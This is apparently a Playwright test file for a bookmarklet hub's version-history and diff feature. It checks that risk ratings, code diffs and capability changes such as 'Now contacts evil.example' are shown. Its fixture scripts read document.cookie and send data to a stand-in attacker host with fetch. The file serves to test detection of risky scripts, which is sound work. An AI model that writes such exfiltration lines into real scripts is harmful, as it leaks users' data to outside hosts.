import { expect, type Page, test } from "@playwright/test";
import { expectNoViolations } from "../support/axe.ts";
import { hubOrigin, signIn, watchForErrors } from "../support/hub.ts";
import { ratedVersions, type SavedVersion, saveScriptAs } from "../support/save-script.ts";
import { storedRows } from "../support/stored-rows.ts";

const unchanged = Array.from({ length: 12 }, (_, index) => `const step${index} = ${index};`);
const QUIET = [...unchanged, "const session = document.cookie;", "alert(session.length);", ""].join("\n");
const TALKING = [...unchanged, 'fetch("https://evil.example/in?words=" + step1);', "alert(step2);", ""].join("\n");

const history = (page: Page) => page.getByRole("dialog");
const part = (page: Page, name: string) => history(page).getByRole("region", { name, exact: true });

/** A script of two versions, whose newer one speaks to a server; both rated. */
async function twoVersions(page: Page, title: string): Promise<SavedVersion> {
	await signIn(page, "Arthur Author");
	const first = await saveScriptAs(page, { title, code: QUIET });
	const second = await saveScriptAs(page, { title, code: TALKING, note: "Sends the words home.", update: first });
	await ratedVersions(page, first.id);
	return second;
}

test("two versions are compared by words and lines; the old one keeps its rating; Back leaves the comparison", async ({
	page,
}) => {
	const errors = watchForErrors(page);
	const { id } = await twoVersions(page, "History of a talker");
	const before = await ratedVersions(page, id);
	await page.goto(`${hubOrigin()}/bookmarklet/${id}`);
	await page.getByRole("button", { name: "View version history" }).click();
	const items = history(page).getByRole("listitem");
	await expect(items).toHaveCount(2);
	await expect(items.first()).toContainText("Sends the words home.");
	const words: Record<string, RegExp> = { green: /Low Risk/, amber: /Medium Risk/, red: /High Risk/ };
	for (const [semver, risk] of Object.entries(before)) {
		await expect(items.filter({ has: page.getByText(semver, { exact: true }) })).toContainText(words[risk] ?? /^$/);
	}
	const [row] = await storedRows<{ sha256: string }>(page, "versions", {
		select: "sha256",
		bookmarklet_id: `eq.${id}`,
		semver: "eq.1.0.0",
	});
	await expect(history(page).getByRole("link", { name: "Install this version (1.0.0)" })).toHaveAttribute(
		"href",
		`${hubOrigin()}/v/${row?.sha256}.user.js`,
	);

	await history(page).getByRole("button", { name: "What changed in 1.1.0 since 1.0.0" }).click();
	await expect(page).toHaveURL(/\?versions=1\.0\.0\.\.1\.1\.0$/);
	const abilities = part(page, "What it can do");
	await expect(abilities.getByText("Now contacts evil.example")).toBeVisible();
	await expect(abilities.getByText("No longer reads or changes cookies")).toBeVisible();
	await expect(abilities).not.toContainText("can do nothing");
	const code = part(page, "Code");
	await expect(code.getByText("2 lines added, 2 lines removed")).toBeVisible();
	const changed = code.getByRole("row").filter({ hasText: "document.cookie" });
	await expect(changed).toContainText("Removed");
	await expect(changed).toContainText("evil.example");
	await expect(code.getByText("const step0 = 0;")).toHaveCount(0);
	await code.getByRole("button", { name: "Show 9 lines that did not change" }).click();
	await expect(code.getByText("const step0 = 0;").first()).toBeVisible();

	await page.goBack();
	await expect(items).toHaveCount(2);
	await page.goBack();
	await expect(history(page)).toHaveCount(0);
	expect(await ratedVersions(page, id)).toEqual(before);
	expect(errors).toEqual([]);
});

test("a link opens a comparison on a phone, one line below the other, also for visitors", { tag: "@soak" }, async ({
	page,
	browser,
}) => {
	const { id } = await twoVersions(page, "History by link");
	const phone = await (await browser.newContext({ viewport: { width: 390, height: 844 } })).newPage();
	await phone.goto(`${hubOrigin()}/bookmarklet/${id}?versions=1.1.0..1.0.0`);
	await expect(part(phone, "What it can do").getByText("Now contacts evil.example")).toBeVisible();
	const rows = part(phone, "Code").getByRole("row");
	await expect(rows.filter({ hasText: "document.cookie" })).toContainText("Removed");
	await expect(rows.filter({ hasText: "evil.example" })).toContainText("Added");
	await history(phone).getByRole("button", { name: "Close" }).click();
	await expect(history(phone)).toHaveCount(0);
	await expect(phone).toHaveURL(new RegExp(`/bookmarklet/${id}$`));
	await phone.context().close();
});

test("no state of the history has accessibility violations", { tag: "@soak" }, async ({ page }) => {
	const { id } = await twoVersions(page, "History for everybody");
	await page.goto(`${hubOrigin()}/bookmarklet/${id}?versions=all`);
	await expect(history(page).getByRole("listitem")).toHaveCount(2);
	await expectNoViolations(page, "the list of versions");
	await history(page).getByRole("button", { name: "Compare" }).click();
	await expect(part(page, "Code").getByRole("table")).toBeVisible();
	await expectNoViolations(page, "the comparison");
});

test("two versions are selected by keyboard, and the owner restores one after a confirmation", {
	tag: "@soak",
}, async ({ page }) => {
	const errors = watchForErrors(page);
	const { id } = await twoVersions(page, "History by keyboard");
	await page.goto(`${hubOrigin()}/bookmarklet/${id}`);
	await page.getByRole("button", { name: "View version history" }).focus();
	await page.keyboard.press("Enter");
	await expect(history(page).getByRole("listitem")).toHaveCount(2);
	await history(page).getByLabel("To version").focus();
	await page.keyboard.press("Tab");
	await page.keyboard.press("Enter");
	await expect(part(page, "What it can do").getByText("Now contacts evil.example")).toBeVisible();
	await history(page).getByRole("button", { name: "All versions" }).press("Enter");
	await expect(history(page).getByRole("listitem")).toHaveCount(2);

	await history(page).getByRole("button", { name: "Restore this version (1.0.0)" }).focus();
	await page.keyboard.press("Enter");
	const question = page.getByRole("alertdialog", { name: "Restore version 1.0.0?" });
	await expect(question.getByRole("button", { name: "Cancel" }).last()).toBeFocused();
	await page.keyboard.press("Escape");
	await expect(question).toHaveCount(0);
	await page.getByRole("button", { name: "Restore this version (1.0.0)" }).press("Enter");
	await question.getByRole("button", { name: "Restore", exact: true }).press("Enter");
	await expect(page.getByText("Version 1.0.0 restored as 1.2.0")).toBeVisible();
	await expect(page.getByRole("dialog").getByRole("listitem")).toHaveCount(3);
	const rows = await storedRows<{ semver: string; code_blob_url: string; change_note: string | null }>(
		page,
		"versions",
		{
			select: "semver,code_blob_url,change_note",
			bookmarklet_id: `eq.${id}`,
			order: "published_at.desc",
			limit: "1",
		},
	);
	expect(rows).toEqual([{ semver: "1.2.0", code_blob_url: QUIET, change_note: "Restored from 1.0.0" }]);
	await page.keyboard.press("Escape");
	await expect(page.getByRole("dialog")).toHaveCount(0);
	await expect(page.getByRole("button", { name: "View version history" })).toBeFocused();
	expect(errors).toEqual([]);
});

test("the install panel of a bookmarklet explains what a strict site may block", { tag: "@soak" }, async ({ page }) => {
	const { id } = await twoVersions(page, "History and policy");
	await page.goto(`${hubOrigin()}/bookmarklet/${id}`);
	const note = page.getByRole("group").filter({ hasText: "On sites with a strict content policy" });
	await expect(note.getByText(/connect-src/)).toBeHidden();
	await note.getByText("On sites with a strict content policy").click();
	await expect(note).toContainText("requests to evil.example (connect-src)");
	await expect(note).toContainText("Installed as a userscript it starts on such sites too.");
});
